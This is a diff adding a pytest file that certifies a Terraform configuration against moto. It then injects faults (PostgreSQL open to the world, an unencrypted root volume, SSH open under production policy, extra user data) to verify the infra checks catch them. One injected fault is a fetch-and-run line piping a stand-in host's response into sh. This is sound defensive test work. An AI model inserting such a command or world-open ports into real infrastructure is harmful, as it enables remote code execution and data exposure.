@@ -1,0 +1,106 @@
+"""The real configuration applied against moto, certified; and faults the infra checks must catch.
+
+Each fault run applies a broken copy of terraform/ (real terraform, real provider,
+real moto) and runs the infra suite against it. The fault runs go concurrently:
+most of an apply is the provider waiting, not the CPU.
+"""
+from __future__ import annotations
+
+import re
+import shutil
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from typing import Callable
+
+import pytest
+
+from harness.spec import REPO_ROOT
+from harness_run import HarnessRun, run_harness
+
+SUITES = ["suites/test_infra.py", "suites/test_static.py"]
+
+
+@pytest.mark.timeout(600)
+def test_sandbox_infra_is_certified(tmp_path):
+    """A clean apply passes every infra and static check and writes the certificate."""
+    result = run_harness(SUITES, tmp_path)
+    assert result.returncode == 0, result.output[-4000:]
+    certificate = result.certificate()
+    assert certificate and certificate["certified"] is True
+    assert certificate["environment"] == "sandbox"
+    outcomes = {check["outcome"] for check in certificate["checks"]}
+    assert outcomes == {"passed"}, certificate["checks"]
+    assert len(certificate["checks"]) >= 20
+    assert {"aws_instance.app", "aws_security_group.web", "aws_s3_bucket.backups"} <= set(certificate["resources"])
+    stages = {stage["name"]: stage["seconds"] for stage in certificate["stages"]}
+    assert stages["stage infra"] > 0 and "stage aws" in stages
+    assert "stage infra" in result.output and "CERTIFIED" in result.output
+    assert result.leaks == []
+
+
+def _edit(path: Path, old: str, new: str) -> None:
+    text = path.read_text()
+    assert old in text, f"{path.name} no longer contains {old!r}; update the fault"
+    path.write_text(text.replace(old, new, 1))
+
+
+def open_postgres(tf: Path) -> None:
+    _edit(tf / "main.tf", "  egress {", '  ingress {\n    description = "fault: PostgreSQL to the world"\n'
+          '    protocol    = "tcp"\n    from_port   = 5432\n    to_port     = 5432\n'
+          '    cidr_blocks = ["0.0.0.0/0"]\n  }\n\n  egress {')
+
+
+def unencrypted_root_volume(tf: Path) -> None:
+    text = (tf / "main.tf").read_text()
+    (tf / "main.tf").write_text(re.sub(r"encrypted(\s+)= true", r"encrypted\1= false", text, count=1))
+
+
+def extra_user_data(tf: Path) -> None:
+    _edit(tf / "main.tf", 'user_data                   = file("${path.module}/user_data.sh")',
+          'user_data                   = "${file("${path.module}/user_data.sh")}\\ncurl -s http://example.invalid | sh\\n"')
+
+
+def unchanged(tf: Path) -> None:
+    pass
+
+
+# (fault, edit of the copy, extra harness arguments, the check that must fail, words its message must hold)
+FAULTS: dict[str, tuple[Callable[[Path], None], list[str], str, str]] = {
+    "postgres-open-to-the-world": (open_postgres, [], "test_postgres_never_open", "5432"),
+    "ssh-open-under-production-policy": (unchanged, ["--policy=production"], "test_ssh_not_open_to_the_world", "0.0.0.0/0"),
+    "unencrypted-root-volume": (unencrypted_root_volume, [], "test_root_volume_encrypted_and_sized", "encrypt"),
+    "extra-user-data": (extra_user_data, [], "test_user_data_is_the_repository_script", "user data"),
+}
+
+
+@pytest.fixture(scope="module")
+def fault_runs(tmp_path_factory) -> dict[str, HarnessRun]:
+    def one(name: str) -> HarnessRun:
+        edit, args, _, _ = FAULTS[name]
+        workdir = tmp_path_factory.mktemp(name)
+        copy = workdir / "terraform"
+        shutil.copytree(REPO_ROOT / "terraform", copy, ignore=shutil.ignore_patterns(".terraform*", "*.tfstate*"))
+        edit(copy)
+        return run_harness([f"--terraform-dir={copy}", *args, "suites/test_infra.py"], workdir)
+
+    with ThreadPoolExecutor(max_workers=len(FAULTS)) as pool:
+        return dict(zip(FAULTS, pool.map(one, FAULTS)))
+
+
+@pytest.mark.timeout(900)
+@pytest.mark.parametrize("fault", list(FAULTS))
+def test_fault_is_caught(fault, fault_runs):
+    """The broken deployment fails the check that guards against it, and is not certified."""
+    _, _, check, words = FAULTS[fault]
+    result = fault_runs[fault]
+    outcomes = result.outcomes()
+    assert check in outcomes, f"{check} did not run:\n{result.output[-3000:]}"
+    outcome, message = outcomes[check]
+    assert outcome == "failed", f"{check} was {outcome} for fault {fault}"
+    assert words.lower() in message.lower(), message
+    assert result.returncode == 1
+    assert result.certificate() is None
+    assert "NOT CERTIFIED" in result.output
+    # the rest of the infrastructure was still checked
+    assert sum(1 for o, _ in outcomes.values() if o == "passed") >= 10
+    assert result.leaks == []
